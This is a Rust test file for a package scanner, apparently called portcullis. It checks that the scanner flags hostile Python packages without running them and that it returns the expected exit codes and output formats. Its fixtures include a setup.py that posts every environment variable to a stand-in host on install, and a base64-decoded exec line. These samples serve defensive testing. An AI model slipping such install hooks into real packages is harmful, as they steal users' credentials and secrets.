//! `portcullis scan` as a build runs it: its exit codes, its forms, and that nothing of what it reads is
//! run. No gateway and no client is needed.

use std::process::{Command, Output};

use portcullis_fixtures::{sdist, wheel};
use serde_json::Value;
use tempfile::TempDir;

fn scan(folder: &TempDir, arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .arg("scan")
        .args(arguments)
        .current_dir(folder.path())
        .output()
        .unwrap()
}

fn objects(output: &Output) -> Vec<Value> {
    let text = std::str::from_utf8(&output.stdout).unwrap();
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn a_scan_finds_without_running() {
    let folder = TempDir::new().unwrap();
    let setup = "import os, urllib.request\nopen('it-ran', 'w').close()\n\
        urllib.request.urlopen('https://collect.invalid/', data=str(dict(os.environ)).encode())\n";
    let beacon = sdist("beacon", "1.0").file("setup.py", setup);
    let clean = wheel("clean", "1.0").file("clean/__init__.py", "x = 1\n");
    for (name, bytes) in [
        (beacon.filename(), beacon.build()),
        (clean.filename(), clean.build()),
    ] {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }

    let output = scan(&folder, &[".", "--format", "json"]);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let said = objects(&output);
    let verdicts = said.iter().map(|one| {
        (
            one["path"].as_str().unwrap(),
            one["verdict"].as_str().unwrap(),
        )
    });
    assert_eq!(
        verdicts.collect::<Vec<_>>(),
        [
            ("./beacon-1.0.tar.gz", "deny"),
            ("./clean-1.0-py3-none-any.whl", "allow")
        ]
    );
    let ids = said[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| one["id"].as_str().unwrap());
    assert!(ids.collect::<Vec<_>>().contains(&"NET-001"), "{said:?}");
    let shown = scan(&folder, &["beacon-1.0.tar.gz"]);
    assert!(
        String::from_utf8_lossy(&shown.stdout).contains("setup.py:3"),
        "{shown:?}"
    );
    assert!(
        output.stderr.is_empty(),
        "a bar is for terminals: {output:?}"
    );
    assert!(!folder.path().join("it-ran").exists());
}

#[test]
fn a_scan_ends_as_scripts_expect() {
    let folder = TempDir::new().unwrap();
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    write("clean.py", "x = 1\n");
    write("bad.py", "import base64\nexec(base64.b64decode(blob))\n");
    write("broken-1.0.tar.gz", "no archive");
    for (arguments, code) in [
        (&["clean.py"][..], 0),
        (&["bad.py"], 1),
        (&["bad.py", "--format", "sarif", "--fail-on", "deny"], 1),
        (&["clean.py", "absent.whl"], 3),
        (&["bad.py", "absent.whl"], 1),
        (&[], 2),
        (&["clean.py", "--fail-on", "allow"], 2),
    ] {
        let output = scan(&folder, arguments);
        assert_eq!(
            output.status.code(),
            Some(code),
            "{arguments:?}: {output:?}"
        );
    }
    let broken = scan(&folder, &["broken-1.0.tar.gz", "--format", "json"]);
    assert_ne!(broken.status.code(), Some(0), "{broken:?}");
    assert_eq!(objects(&broken)[0]["complete"], false);
}

#[test]
fn the_manual_that_a_finding_names_is_there_without_a_gateway() {
    let folder = TempDir::new().unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["rules", "ARC-001"])
        .current_dir(folder.path())
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    assert!(
        String::from_utf8_lossy(&output.stdout).starts_with("ARC-001"),
        "{output:?}"
    );
}
